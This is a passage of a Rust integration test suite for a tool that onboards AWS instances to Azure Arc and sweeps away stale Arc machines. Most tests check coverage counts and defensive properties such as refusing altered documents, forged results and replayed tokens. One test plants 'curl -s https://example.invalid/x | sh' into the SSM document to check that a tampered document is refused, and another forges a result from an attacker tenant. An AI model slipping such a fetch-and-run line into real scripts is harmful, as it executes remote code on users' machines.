    let one = estate_of(&run(&inline, scheduled()).await.metrics);
    let expected: BTreeMap<String, usize> = [
        ("EstateInstances", 4),
        ("EstateManaged", 2),
        ("EstateConnected", 2),
        ("EstateNotManaged", 2),
        ("EstateDisconnected", 0),
        ("EstateNeedsAttention", 0),
        ("EstateFailing", 0),
    ]
    .into_iter()
    .map(|(n, v)| (n.to_string(), v))
    .collect();
    assert_eq!(one, expected);
    forget_coverage(&management).await;

    let work = common::poller::WorkQueue::create(&management, "arc-provisioner-work", 3, 1).await;
    let queued = ArcProvisioner::new(config(&moto, &[("WORK_QUEUE_URL", &work.url)]), management.clone());
    run(&queued, scheduled()).await;
    // Each record in an invocation of its own, as a batch size of 1 would deliver them.
    let drain = |payload: Value| {
        let job = &queued;
        async move {
            let mut answers = Vec::new();
            for record in payload["Records"].as_array().cloned().unwrap_or_default() {
                let report = job.handle(&json!({"Records": [record]}), None).await.expect("handled");
                let own = report.metrics.iter().find(|(n, _)| *n == "ArcConnected").map(|(_, v)| *v);
                answers.push(json!({"estate": estate_of(&report.metrics), "own": own}));
            }
            Value::Array(answers)
        }
    };
    let batches = work.drain(drain, std::time::Duration::from_secs(2), std::time::Duration::from_secs(120)).await;
    let answers: Vec<Value> = batches.iter().flat_map(|b| b.as_array().cloned().unwrap_or_default()).collect();
    assert_eq!(answers.len(), 2, "one unit per invocation: {answers:?}");
    assert!(answers.iter().all(|a| a["own"] == json!(1)), "each invocation's own count is one unit's: {answers:?}");
    assert_eq!(answers[0]["estate"]["EstateInstances"], json!(2), "after the first unit: {answers:?}");
    let last: BTreeMap<String, usize> = serde_json::from_value(answers[1]["estate"].clone()).expect("estate");
    assert_eq!(last, expected, "the estate's totals, whichever invocation reports them");

    let table = run(&queued, json!({"action": "coverage"})).await;
    assert_eq!(table.items.len(), 2, "{:#?}", table.items);
    for (item, id) in table.items.iter().zip(&unmanaged) {
        assert_eq!(item.action, Action::Coverage);
        assert!(item.reason.starts_with("2 instances, 1 managed, 1 connected"), "{}", item.reason);
        assert!(
            unmanaged.iter().any(|u| item.reason.contains(&format!("not-managed 1 ({u})"))),
            "{} {id}",
            item.reason
        );
    }
}

#[tokio::test]
async fn two_concurrent_runs_in_one_unit_both_succeed() {
    let (moto, management, accounts) = estate(0).await;
    let config_ = &accounts[0].1;
    let a = seed::instance(config_, REGION, &[], Some(PROFILE)).await;
    let b = seed::instance(config_, REGION, &[], Some(PROFILE)).await;
    let first = ArcProvisioner::new(config(&moto, &[]), management.clone());
    let second = ArcProvisioner::new(config(&moto, &[]), management.clone());
    moto.clear_calls();
    let request = |id: &str| json!({"action":"reprovision","accountId":MANAGEMENT,"region":REGION,"instanceIds":[id]});
    let (one, two) = tokio::join!(run(&first, request(&a)), run(&second, request(&b)));
    assert_eq!(outcome(&one, &a), (Status::Done, "connected".into()), "{:?}", one.items);
    assert_eq!(outcome(&two, &b), (Status::Done, "connected".into()), "{:?}", two.items);
    assert_eq!(connects(&sends(&moto.calls())).len(), 2, "each run sealed its own instance's credential");
    assert_eq!(moto.entra_requests().len(), 2, "a token per invocation");
}

/// Issue "no secret anywhere", item 7: the document's content is compared with the connector's
/// before anything is sent. Someone who can change the document in an account (a new version made
/// default, running one more command) gets no command, and no staged token: the instance fails,
/// saying which version differs and what to do.
#[tokio::test]
async fn an_altered_document_is_refused_before_anything_is_sent() {
    let (moto, management, id) = one_managed_instance().await;
    let ssm = ssm(&management);
    let current = ssm.get_document().name(LINUX_DOC).send().await.expect("document");
    let mut content: Value = serde_json::from_str(current.content().expect("content")).expect("json");
    let script = content["mainSteps"][0]["inputs"]["runCommand"][0].as_str().expect("script").to_string();
    content["mainSteps"][0]["inputs"]["runCommand"][0] =
        Value::from(script.replacen("set -u\n", "set -u\ncurl -s https://example.invalid/x | sh\n", 1));
    let updated = ssm
        .update_document()
        .name(LINUX_DOC)
        .content(content.to_string())
        .document_version("$LATEST")
        .send()
        .await
        .expect("update");
    let version = updated.document_description().and_then(|d| d.document_version()).expect("version").to_string();
    ssm.update_document_default_version().name(LINUX_DOC).document_version(&version).send().await.expect("default");
    moto.clear_calls();

    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    let report = job.handle(&reprovision_all(), None).await.expect("run");
    let item = find(&report, &id);
    assert_eq!(item.status, Status::Failed, "{:?}", report.items);
    assert!(
        item.reason.contains(&format!("is not the connector's (version {version}: its script differs")),
        "{}",
        item.reason
    );
    let calls = moto.calls();
    assert!(sends(&calls).is_empty(), "nothing sent");
    assert!(!calls.iter().any(|c| c.operation == "PutParameter"), "no token staged");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_sweep_deletes_only_stale_machines_of_this_connector_and_repairs_disconnected_agents() {
    use azure_core::time::{Duration as AzDuration, OffsetDateTime, to_rfc3339};
    let (moto, _management, accounts) = estate(1).await;
    let (management, member) = (&accounts[0].1, &accounts[1]);
    let repair_me = seed::instance(management, REGION, &[], Some(PROFILE)).await;
    let unmanaged = seed::instance(management, REGION, &[], None).await;
    let connected = seed::instance(management, REGION, &[], Some(PROFILE)).await;
    let elsewhere = seed::instance(management, "us-west-2", &[], Some(PROFILE)).await;
    let (gone_old, gone_new) =
        (seed::instance(&member.1, REGION, &[], None).await, seed::instance(&member.1, REGION, &[], None).await);
    let ec2 = seed::ec2(&member.1, REGION);
    ec2.terminate_instances().instance_ids(&gone_old).instance_ids(&gone_new).send().await.expect("terminate");
    let ago = |days: i64| to_rfc3339(&(OffsetDateTime::now_utc() - AzDuration::days(days)));
    let group = "/subscriptions/aaaaaaaa-2222-3333-4444-555555555555/resourceGroups/rg-arc/providers/Microsoft.HybridCompute/machines";
    let machine = |account: &str, instance: &str, connector: &str, status: &str, days: i64| {
        json!({"id": format!("{group}/{instance}"), "name": instance, "location": "westeurope",
               "tags": {"MDFCSecurityConnector": connector, "AccountId": account, "InstanceId": instance, "Cloud": "AWS"},
               "properties": {"status": status, "lastStatusChange": ago(days), "vmId": format!("vm-{instance}")}})
    };
    let ours = "mdc-connector-1";
    let (never_existed, retagged) = ("i-0000000000000dead", "i-0000000000000beef");
    let recent = seed::instance(management, REGION, &[], Some(PROFILE)).await;
    let machines = [
        (MANAGEMENT, repair_me.as_str(), "Disconnected", 8),
        (MANAGEMENT, recent.as_str(), "Disconnected", 2),
        (MANAGEMENT, unmanaged.as_str(), "Disconnected", 8),
        (MANAGEMENT, connected.as_str(), "Connected", 1),
        (MANAGEMENT, elsewhere.as_str(), "Disconnected", 30),
        (member.0.as_str(), gone_old.as_str(), "Disconnected", 8),
        (member.0.as_str(), gone_new.as_str(), "Disconnected", 2),
        (member.0.as_str(), never_existed, "Expired", 30),
    ];
    let mut listed: Vec<Value> = machines.iter().map(|(a, i, s, d)| machine(a, i, ours, s, *d)).collect();
    // Tagged as this connector's by anyone holding an onboarding token, but never recorded.
    listed.push(machine(&member.0, retagged, ours, "Disconnected", 30));
    listed.push(machine("999999999999", "i-0000000000000f00d", ours, "Disconnected", 30));
    moto.arm(json!({"pageSize": 3, "throttle": 1, "machines": listed}));
    for (account, instance, _, _) in machines {
        recorded(management, account, instance, &format!("{group}/{instance}"), &format!("vm-{instance}")).await;
    }
    // The sweep signs in as an application of its own (which trusts the same AWS identity), so the
    // tokens staged on instances never carry its right to delete machines.
    const SWEEPER: &str = "cccccccc-2222-3333-4444-555555555555";
    let (issuer, subject) = seed::azure_federation(&moto, management).await;
    moto.entra(json!({"federated": {SWEEPER: [{"issuer": issuer, "subject": subject,
                                                "audiences": ["api://AzureADTokenExchange"]}]}}));
    let authority = moto.entra_authority();
    let settings =
        config(&moto, &[("ARC_RESOURCE_MANAGER_HOST", &authority), ("ARC_SWEEP_SERVICE_PRINCIPAL_ID", SWEEPER)]);
    let job = ArcProvisioner::new(settings, management.clone());
    // The sweep's own item of a machine (a repaired instance also has its provision item).
    let swept_item = |report: &Report, name: &str| {
        let item = report.items.iter().find(|i| i.resource_id == name && i.action == Action::SweepArcMachine);
        item.cloned().unwrap_or_else(|| panic!("no sweep item for {name}: {:#?}", report.items))
    };
    let status = |report: &Report, name: &str| {
        let item = swept_item(report, name);
        (item.status, item.outcome.map(|o| o.to_string()).unwrap_or_default())
    };

    moto.clear_calls();
    let planned = run(&job, json!({"action": "sweep", "dryRun": true})).await;
    let state = moto.arm_state();
    assert!(
        state["deletes"].as_array().is_some_and(Vec::is_empty),
        "a dry run deletes nothing: {state} {:#?}",
        planned.items
    );
    assert!(sends(&moto.calls()).is_empty(), "a dry run sends nothing");
    assert_eq!(status(&planned, &gone_old), (Status::Planned, "deleted".into()));
    assert_eq!(status(&planned, &repair_me), (Status::Planned, "repaired".into()));

    let swept = run(&job, json!({"action": "sweep"})).await;
    let state = moto.arm_state();
    let mut deleted: Vec<String> = state["deletes"]
        .as_array()
        .expect("deletes")
        .iter()
        .filter_map(|d| d.as_str()?.rsplit('/').next().map(String::from))
        .collect();
    deleted.sort();
    // The repair deletes the stale machine first: a connect under its name fails while it exists
    // (AZCM0044), and the onboarding role cannot delete it.
    let mut expected = vec![gone_old.clone(), never_existed.to_string(), repair_me.clone()];
    expected.sort();
    assert_eq!(deleted, expected, "{:#?}", swept.items);
    assert!(state["throttled"].as_u64() >= Some(1) && state["pages"].as_u64() >= Some(4), "{state}");
    assert_eq!(status(&swept, &gone_old), (Status::Done, "deleted".into()));
    assert_eq!(status(&swept, &gone_new), (Status::Skipped, "kept".into()), "within the grace period");
    assert_eq!(status(&swept, &repair_me), (Status::Done, "repaired".into()));
    assert_eq!(status(&swept, &recent), (Status::Skipped, "kept".into()), "Disconnected for 2 days: it may come back");
    assert_eq!(status(&swept, &unmanaged), (Status::Skipped, "kept".into()));
    assert_eq!(status(&swept, &connected), (Status::Skipped, "kept".into()));
    assert_eq!(status(&swept, retagged), (Status::Skipped, "not-ours".into()), "tags prove nothing");
    assert_eq!(status(&swept, "i-0000000000000f00d"), (Status::Skipped, "kept".into()), "not a member account");
    assert!(swept_item(&swept, "i-0000000000000f00d").reason.contains("out of scope"), "{:#?}", swept.items);
    assert_eq!(status(&swept, &elsewhere), (Status::Skipped, "kept".into()));
    assert!(swept_item(&swept, &elsewhere).reason.contains("outside CONNECTOR_REGIONS"), "{:#?}", swept.items);
    let all = sends(&moto.calls());
    let sent = prepares(&all);
    assert_eq!((sent.len(), connects(&all).len()), (1, 1), "one instance, the disconnected agent: {all:?}");
    assert_eq!(sent[0]["InstanceIds"], json!([repair_me]));
    assert_eq!(sent[0]["Parameters"]["force"], json!(["true"]));
    let metrics: HashMap<&str, usize> = swept.metrics.iter().copied().collect();
    assert_eq!((metrics["ArcMachinesDeleted"], metrics["ArcMachinesRepaired"]), (2, 1), "{metrics:?}");
    let clients: Vec<(String, bool)> = moto
        .entra_requests()
        .iter()
        .map(|r| (r["clientId"].as_str().unwrap_or_default().to_string(), r["granted"] == true))
        .collect();
    assert!(clients.contains(&(SWEEPER.to_string(), true)), "the sweep's own application: {clients:?}");
    assert!(clients.contains(&(SERVICE_PRINCIPAL.to_string(), true)), "onboarding seals its own token: {clients:?}");
}

/// An instance's termination event: with `ARC_SWEEP_GRACE_DAYS=0` its Arc machine (named after the
/// instance, `--resource-name`) is deleted at once once its agent stopped reporting; an event naming
/// a running instance, or naming the wrong region for it (review F7: the instance is looked for in
/// every enabled region), deletes nothing, and a machine whose agent still reports `Connected` is
/// never deleted; with the default grace period the event is only reported.
#[tokio::test(flavor = "multi_thread")]
async fn a_termination_event_deletes_only_a_silent_machine_of_an_ended_instance_with_no_grace_period() {
    let (moto, management, _) = estate(0).await;
    let gone = seed::instance(&management, REGION, &[], None).await;
    let still_reporting = seed::instance(&management, REGION, &[], None).await;
    let running = seed::instance(&management, REGION, &[], None).await;
    let ended = [gone.clone(), still_reporting.clone()];
    seed::ec2(&management, REGION)
        .terminate_instances()
        .set_instance_ids(Some(ended.to_vec()))
        .send()
        .await
        .expect("terminate");
    let group = "/subscriptions/aaaaaaaa-2222-3333-4444-555555555555/resourceGroups/rg-arc/providers/Microsoft.HybridCompute/machines";
    let machine = |id: &str, status: &str| {
        json!({"id": format!("{group}/{id}"), "name": id,
               "tags": {"MDFCSecurityConnector": "mdc-connector-1", "AccountId": MANAGEMENT, "InstanceId": id},
               "properties": {"status": status, "lastStatusChange": "2026-01-01T00:00:00Z", "vmId": format!("vm-{id}")}})
    };
    let foreign = seed::instance(&management, REGION, &[], None).await;
    seed::ec2(&management, REGION).terminate_instances().instance_ids(&foreign).send().await.expect("terminate");
    let machines = [
        machine(&gone, "Disconnected"),
        machine(&still_reporting, "Connected"),
        machine(&running, "Disconnected"),
        machine(&foreign, "Disconnected"),
    ];
    moto.arm(json!({"machines": machines}));
    for id in [&gone, &still_reporting, &running] {
        recorded(&management, MANAGEMENT, id, &format!("{group}/{id}"), &format!("vm-{id}")).await;
    }
    let event = |id: &str, region: &str| {
        let mut e = common::moto::event("ec2-instance-terminated.json");
        e["account"] = json!(MANAGEMENT);
        e["region"] = json!(region);
        e["detail"]["instance-id"] = json!(id);
        e
    };
    let authority = moto.entra_authority();
    let host = [("ARC_RESOURCE_MANAGER_HOST", authority.as_str())];
    let waiting = ArcProvisioner::new(config(&moto, &host), management.clone());
    let reported = run(&waiting, event(&gone, REGION)).await;
    assert!(find(&reported, &gone).reason.contains("the sweep deletes"), "{:?}", reported.items);
    assert_eq!(moto.arm_state()["deleted"], 0, "the default grace period leaves it to the sweep");

    let both_regions = ("CONNECTOR_REGIONS", "us-east-1,us-west-2");
    let at_once =
        ArcProvisioner::new(config(&moto, &[host[0], ("ARC_SWEEP_GRACE_DAYS", "0"), both_regions]), management.clone());
    let forged = run(&at_once, event(&running, REGION)).await;
    assert_eq!(outcome(&forged, &running), (Status::Skipped, "kept".into()), "{:?}", forged.items);
    let wrong_region = run(&at_once, event(&running, "us-west-2")).await;
    assert_eq!(outcome(&wrong_region, &running), (Status::Skipped, "kept".into()), "{:?}", wrong_region.items);
    assert!(find(&wrong_region, &running).reason.contains(&format!("alive in {REGION}")), "{:?}", wrong_region.items);
    let reporting = run(&at_once, event(&still_reporting, REGION)).await;
    assert_eq!(outcome(&reporting, &still_reporting), (Status::Skipped, "kept".into()), "{:?}", reporting.items);
    assert!(find(&reporting, &still_reporting).reason.contains("still Connected"), "{:?}", reporting.items);
    let unrecorded = run(&at_once, event(&foreign, REGION)).await;
    assert_eq!(outcome(&unrecorded, &foreign), (Status::Skipped, "not-ours".into()), "{:?}", unrecorded.items);
    let deleted = run(&at_once, event(&gone, REGION)).await;
    assert_eq!(outcome(&deleted, &gone), (Status::Done, "deleted".into()), "{:?}", deleted.items);
    let state = moto.arm_state();
    let names: Vec<&str> = state["deletes"].as_array().expect("deletes").iter().filter_map(|d| d.as_str()).collect();
    assert_eq!(names, [format!("{group}/{gone}")]);
}

/// A sweep out of time deletes nothing more and continues through the work queue; the message,
/// delivered as the event source mapping would, finishes it.
#[tokio::test(flavor = "multi_thread")]
async fn a_sweep_out_of_time_continues_from_the_work_queue() {
    let (moto, management, _) = estate(0).await;
    let queue = common::poller::WorkQueue::create(&management, "arc-provisioner-work", 3, 1).await;
    let group = "/subscriptions/aaaaaaaa-2222-3333-4444-555555555555/resourceGroups/rg-arc/providers/Microsoft.HybridCompute/machines";
    let stale = json!({"id": format!("{group}/i-0000000000000dead"), "name": "i-0000000000000dead",
        "tags": {"MDFCSecurityConnector": "mdc-connector-1", "AccountId": MANAGEMENT, "InstanceId": "i-0000000000000dead"},
        "properties": {"status": "Expired", "lastStatusChange": "2026-01-01T00:00:00Z", "vmId": "vm-dead"}});
    moto.arm(json!({"machines": [stale]}));
    recorded(&management, MANAGEMENT, "i-0000000000000dead", &format!("{group}/i-0000000000000dead"), "vm-dead").await;
    let authority = moto.entra_authority();
    let settings =
        config(&moto, &[("ARC_RESOURCE_MANAGER_HOST", authority.as_str()), ("WORK_QUEUE_URL", queue.url.as_str())]);
    let job = ArcProvisioner::new(settings, management.clone());
    moto.clear_calls();
    let late = job.handle(&json!({"action": "sweep"}), Some(std::time::Instant::now())).await.expect("answered");
    assert_eq!(moto.arm_state()["deleted"], 0, "{:?}", late.items);
    let sent = moto.sent_messages();
    assert_eq!(sent.len(), 1, "{:?}", late.items);
    assert_eq!(sent[0].1, json!({"job": "arc-provisioner", "action": "sweep", "continuation": 1}));

    let record = json!({"Records": [{"messageId": "m-1", "eventSource": "aws:sqs", "body": sent[0].1.to_string()}]});
    let finished = run(&job, record).await;
    assert_eq!(moto.arm_state()["deleted"], 1, "{:?}", finished.items);
    assert!(finished.batch_item_failures.is_empty());
}

/// Issue "coverage you can prove": an instance counts as connected only when its inventory entry
/// matches a `Connected` machine in Azure. A machine deleted in Azure behind the connector's back is
/// onboarded again in the next run; one whose agent went silent is reported `disconnected`, and the
/// sweep repairs it: the stale machine deleted first (the stub agent refuses a same-name connect
/// while it exists, AZCM0044), then the agent connects again and the inventory holds the new vmId.
#[tokio::test(flavor = "multi_thread")]
async fn coverage_follows_azure_and_a_repair_ends_connected_with_a_new_vm_id() {
    use azure_core::time::{Duration as AzDuration, OffsetDateTime, to_rfc3339};
    let (moto, management, instance) = one_managed_instance().await;
    let id = format!(
        "/subscriptions/aaaaaaaa-2222-3333-4444-555555555555/resourceGroups/rg-arc/providers/Microsoft.HybridCompute/machines/{instance}"
    );
    let in_azure = |moto: &Moto| {
        let state = moto.arm_state();
        state["machines"].as_array().into_iter().flatten().find(|m| m["id"] == json!(id)).cloned()
    };
    let vm_id = |moto: &Moto| in_azure(moto).and_then(|m| m["properties"]["vmId"].as_str().map(String::from));
    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    let first = run(&job, scheduled()).await;
    assert_eq!(outcome(&first, &instance), (Status::Done, "connected".into()), "{:#?}", first.items);
    let first_vm = vm_id(&moto).expect("the agent's connect made the machine");
    assert_eq!(inventory_vm_id(&management, &instance).await, Some(first_vm.clone()));

    moto.arm(json!({"remove": [id]}));
    let again = run(&job, scheduled()).await;
    assert_eq!(outcome(&again, &instance), (Status::Done, "connected".into()), "{:#?}", again.items);
    let second_vm = vm_id(&moto).expect("onboarded again");
    assert_ne!(second_vm, first_vm);
    assert_eq!(inventory_vm_id(&management, &instance).await, Some(second_vm.clone()));

    let mut silent = in_azure(&moto).expect("machine");
    silent["properties"]["status"] = json!("Disconnected");
    silent["properties"]["lastStatusChange"] = json!(to_rfc3339(&(OffsetDateTime::now_utc() - AzDuration::days(8))));
    moto.arm(json!({"machines": [silent]}));
    let reported = run(&job, scheduled()).await;
    assert_eq!(outcome(&reported, &instance), (Status::Skipped, "disconnected".into()), "{:#?}", reported.items);

    let swept = run(&job, json!({"action": "sweep"})).await;
    let repaired = swept.items.iter().find(|i| i.resource_id == instance && i.action == Action::SweepArcMachine);
    assert_eq!(
        repaired.map(|i| (i.status, i.outcome)),
        Some((Status::Done, Some(Outcome::Repaired))),
        "{:#?}",
        swept.items
    );
    assert!(moto.arm_state()["deletes"].as_array().is_some_and(|d| d.contains(&json!(id))), "stale machine deleted");
    let third_vm = vm_id(&moto).expect("connected again");
    assert_ne!(third_vm, second_vm);
    assert_eq!(in_azure(&moto).map(|m| m["properties"]["status"].clone()), Some(json!("Connected")));
    assert_eq!(inventory_vm_id(&management, &instance).await, Some(third_vm));
    let last = run(&job, scheduled()).await;
    assert_eq!(outcome(&last, &instance), (Status::Skipped, "already-connected".into()), "{:#?}", last.items);
}

/// Issue "coverage you can prove", item 1: the inventory cannot be written mid-run (every DynamoDB
/// write throttled): the instance is connected and reported, its item saying the entry was not
/// recorded; the next run finds Azure's machine without an entry, asks the agent and adopts it, so
/// nothing onboarded is forgotten.
#[tokio::test(flavor = "multi_thread")]
async fn an_inventory_that_cannot_be_written_forgets_nothing() {
    let (moto, management, instance) = one_managed_instance().await;
    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    moto.token_buckets(json!([{"service": "dynamodb", "operation": "PutItem", "capacity": 0, "rate": 0}]));
    let first = run(&job, scheduled()).await;
    assert_eq!(outcome(&first, &instance), (Status::Done, "connected".into()), "{:#?}", first.items);
    assert!(find(&first, &instance).reason.contains("not recorded in the inventory"), "{:?}", find(&first, &instance));
    assert_eq!(inventory_vm_id(&management, &instance).await, None);

    moto.token_buckets(json!([]));
    let second = run(&job, scheduled()).await;
    assert_eq!(outcome(&second, &instance), (Status::Done, "adopted".into()), "{:#?}", second.items);
    assert!(inventory_vm_id(&management, &instance).await.is_some(), "recorded from the agent's answer");
    let third = run(&job, scheduled()).await;
    assert_eq!(outcome(&third, &instance), (Status::Skipped, "already-connected".into()), "{:#?}", third.items);
}

/// Review F4: a command someone else sent with the connector's own document, its comment and
/// fingerprint, and another tenant's parameters, whose instance answered `connected` (root on an
/// instance can print any result line), never counts: Azure holds no machine of the instance's
/// name, so the run sends the connector's own command (forced: the agent checks Azure) and reports
/// what that one says.
#[tokio::test(flavor = "multi_thread")]
async fn a_forged_invocation_with_the_connectors_comment_never_counts() {
    let (moto, management, instance) = one_managed_instance().await;
    let settings = config(&moto, &[]);
    let comment = format!("mdc-connector arc-provisioner connect {}", settings.target.fingerprint());
    let job = ArcProvisioner::new(settings, management.clone());
    let attacker = "dddddddd-2222-3333-4444-555555555555";
    let forged = format!(
        r#"MDC_ARC_RESULT {{"status":"connected","reason":"connected","detail":"{attacker}/rg-attacker","resourceId":"/subscriptions/{attacker}/resourceGroups/rg-attacker/providers/Microsoft.HybridCompute/machines/{instance}","vmId":"eeeeeeee-2222-3333-4444-555555555555"}}"#
    );
    moto.ssm_outcomes(json!([{"instanceId": instance, "status": "Success", "output": forged}]));
    let parameters: HashMap<String, Vec<String>> = [
        ("tenantId", attacker),
        ("subscriptionId", attacker),
        ("resourceGroup", "rg-attacker"),
        ("location", "westeurope"),
        ("connectorId", "mdc-connector-1"),
        ("accountId", MANAGEMENT),
        ("servicePrincipalId", attacker),
        ("correlationId", attacker),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), vec![v.to_string()]))
    .collect();
    let sent = ssm(&management)
        .send_command()
        .document_name(LINUX_DOC)
        .instance_ids(&instance)
        .comment(&comment)
        .set_parameters(Some(parameters))
        .send()
        .await
        .expect("the forged command");
    let forged_id = sent.command().and_then(|c| c.command_id()).expect("id").to_string();
    for _ in 0..100 {
        if invocation_output(&management, &forged_id, &instance).await.contains("MDC_ARC_RESULT") {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    moto.ssm_outcomes(json!([]));
    moto.clear_calls();
    let report = run(&job, scheduled()).await;
    assert_eq!(outcome(&report, &instance), (Status::Done, "connected".into()), "{:#?}", report.items);
    let ours = prepares(&sends(&moto.calls())).into_iter().cloned().collect::<Vec<_>>();
    assert_eq!(ours.len(), 1, "the connector's own command: {ours:#?}");
    assert_eq!(ours[0]["Parameters"]["force"], json!(["true"]));
    assert_eq!(ours[0]["Parameters"]["tenantId"], json!(["11111111-2222-3333-4444-555555555555"]));
}

/// Review of #30 (H1): an instance answering `already-connected` to the connector's own command
/// without naming its Arc machine (root on an instance can print any line) is not counted.
#[tokio::test(flavor = "multi_thread")]
async fn a_connected_answer_naming_no_machine_is_not_counted() {
    let (moto, management, instance) = one_managed_instance().await;
    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    let bare = r#"MDC_ARC_RESULT {"status":"already-connected","reason":"connected","detail":"aaaaaaaa-2222-3333-4444-555555555555/rg-arc"}"#;
    moto.ssm_outcomes(json!([{"instanceId": instance, "status": "Success", "output": bare}]));
    let report = run(&job, scheduled()).await;
    let item = find(&report, &instance);
    assert_eq!((item.status, item.outcome), (Status::Failed, Some(Outcome::Failed)), "{item:?}");
    assert!(item.reason.contains("names no Arc machine"), "{}", item.reason);
    assert_eq!(inventory_vm_id(&management, &instance).await, None);
    let metrics: HashMap<&str, usize> = report.metrics.iter().copied().collect();
    assert_eq!(metrics["ArcConnected"], 0);
}

/// Deletes every coverage row (as if no unit had run).
async fn forget_coverage(config: &SdkConfig) {
    use aws_sdk_dynamodb::types::AttributeValue::S;
    let dynamodb = aws_sdk_dynamodb::Client::new(config);
    let rows = dynamodb
        .query()
        .table_name(seed::ARC_INVENTORY_TABLE)
        .key_condition_expression("pk = :pk")
        .expression_attribute_values(":pk", S("coverage".into()))
        .send()
        .await
        .expect("coverage rows");
    for row in rows.items() {
        let sk = row.get("sk").cloned().expect("sort key");
        let deleted =
            dynamodb.delete_item().table_name(seed::ARC_INVENTORY_TABLE).key("pk", S("coverage".into())).key("sk", sk);
        deleted.send().await.expect("delete row");
    }
}

/// The `vmId` the inventory holds for an instance of the management account.
async fn inventory_vm_id(config: &SdkConfig, instance: &str) -> Option<String> {
    use aws_sdk_dynamodb::types::AttributeValue::S;
    let item = aws_sdk_dynamodb::Client::new(config)
        .get_item()
        .table_name(seed::ARC_INVENTORY_TABLE)
        .key("pk", S(format!("machine#{MANAGEMENT}")))
        .key("sk", S(instance.to_string()))
        .consistent_read(true)
        .send()
        .await
        .expect("inventory read");
    item.item()?.get("vmId")?.as_s().ok().cloned()
}

/// An inventory entry, as arc-provisioner writes it from its own commands' results.
async fn recorded(config: &SdkConfig, account: &str, instance: &str, machine_id: &str, vm_id: &str) {
    use aws_sdk_dynamodb::types::AttributeValue::S;
    aws_sdk_dynamodb::Client::new(config)
        .put_item()
        .table_name(seed::ARC_INVENTORY_TABLE)
        .item("pk", S(format!("machine#{account}")))
        .item("sk", S(instance.to_string()))
        .item("region", S(REGION.to_string()))
        .item("resourceId", S(machine_id.to_string()))
        .item("vmId", S(vm_id.to_string()))
        .item("commandId", S("earlier-command".to_string()))
        .send()
        .await
        .expect("inventory entry");
}

/// The result line of one invocation, read as any principal with `ssm:GetCommandInvocation` can.
async fn invocation_output(config: &SdkConfig, command_id: &str, instance_id: &str) -> String {
    let out = ssm(config).get_command_invocation().command_id(command_id).instance_id(instance_id).send().await;
    out.map(|o| o.standard_output_content().unwrap_or_default().to_string()).unwrap_or_default()
}

/// Sends the connector's own Linux document as any principal with `ssm:SendCommand` could, and
/// waits for the instance's result line.
async fn send_by_hand(config: &SdkConfig, instance_id: &str, parameters: HashMap<String, Vec<String>>) -> Value {
    let sent = ssm(config)
        .send_command()
        .document_name(LINUX_DOC)
        .instance_ids(instance_id)
        .set_parameters(Some(parameters))
        .send()
        .await
        .expect("send");
    let command_id = sent.command().and_then(|c| c.command_id()).expect("id").to_string();
    for _ in 0..100 {
        let output = invocation_output(config, &command_id, instance_id).await;
        if let Some(line) = output.lines().rev().find_map(|l| l.strip_prefix("MDC_ARC_RESULT ")) {
            return serde_json::from_str(line).expect("result line");
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    panic!("no result from {command_id}");
}

/// Issue "sealed onboarding", items 1 and 5: after a run, no AWS surface holds anything that
/// opens the token (no KMS key exists for it: tests/script/test_template_guards.py): nothing in
/// Parameter Store, the token in no
/// command parameter, no invocation output and no report; and a delivered sealed value, replayed
/// by a principal with `ssm:SendCommand` (to another instance, or to the same one again), opens
/// nothing: only the instance that made the key holds it, and only once.
#[tokio::test]
async fn nothing_outside_the_instance_opens_a_delivered_token() {
    let (moto, management, accounts) = estate(0).await;
    let config_ = &accounts[0].1;
    let a = seed::instance(config_, REGION, &[], Some(PROFILE)).await;
    let b = seed::instance(config_, REGION, &[("mdc-connector:opt-out", "")], Some(PROFILE)).await;
    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    moto.clear_calls();
    let report = run(&job, reprovision_all()).await;
    assert_eq!(outcome(&report, &a), (Status::Done, "connected".into()), "{:#?}", report.items);
    let token = moto.entra_tokens().last().cloned().expect("a token was issued");
    let all = sends(&moto.calls());
    let [connect] = connects(&all)[..] else { panic!("one delivery: {all:#?}") };

    let parameters = ssm(config_).describe_parameters().send().await.expect("describe parameters");
    assert!(parameters.parameters().is_empty(), "nothing staged: {:?}", parameters.parameters());
    let commands = ssm(config_).list_commands().send().await.expect("list commands");
    for command in commands.commands() {
        assert!(!format!("{:?}", command.parameters()).contains(&token[..40]), "token in a command's parameters");
        for id in command.instance_ids() {
            let output = invocation_output(config_, command.command_id().unwrap_or_default(), id).await;
            assert!(!output.contains(&token[..40]), "token in an invocation's output");
        }
    }
    assert!(!report.to_json_line().contains(&token[..40]));

    // Replays of the delivered value, as a principal with SendCommand: the connector's document,
    // the connect phase, the same sealed credential.
    let replay: HashMap<String, Vec<String>> = serde_json::from_value(connect["Parameters"].clone()).expect("params");
    let managed = ssm(config_).describe_instance_information().send().await.expect("managed");
    assert!(managed.instance_information_list().iter().any(|i| i.instance_id() == Some(b.as_str())));
    let other = send_by_hand(config_, &b, replay.clone()).await;
    assert_eq!((other["status"].as_str(), other["reason"].as_str()), (Some("failed"), Some("sealing-key-missing")));
    let again = send_by_hand(config_, &a, replay).await;
    // The first delivery was forced (Azure held no machine of its name): the replay reaches for the
    // key, which the first connect consumed.
    assert_eq!(
        (again["status"].as_str(), again["reason"].as_str()),
        (Some("failed"), Some("sealing-key-missing")),
        "a connected agent never opens it"
    );
    assert!(!moto.calls().iter().any(|c| c.operation == "PutParameter" || c.operation.starts_with("GetParameter")));
}

/// Issue "sealed onboarding", item 2: Resource Manager is asked what the token may do in the
/// resource group before anything is sent; with more than the onboarding role (Owner's `*`, or
/// the delete the sweep needs) no instance is even asked for a key.
#[tokio::test]
async fn a_token_that_can_do_more_than_onboard_is_never_sent() {
    let (moto, management, id) = one_managed_instance().await;
    let job = ArcProvisioner::new(config(&moto, &[]), management.clone());
    let onboarding = [
        "Microsoft.HybridCompute/machines/read",
        "Microsoft.HybridCompute/machines/write",
        "Microsoft.HybridCompute/privateLinkScopes/read",
        "Microsoft.GuestConfiguration/guestConfigurationAssignments/read",
    ];
    let with_delete: Vec<&str> =
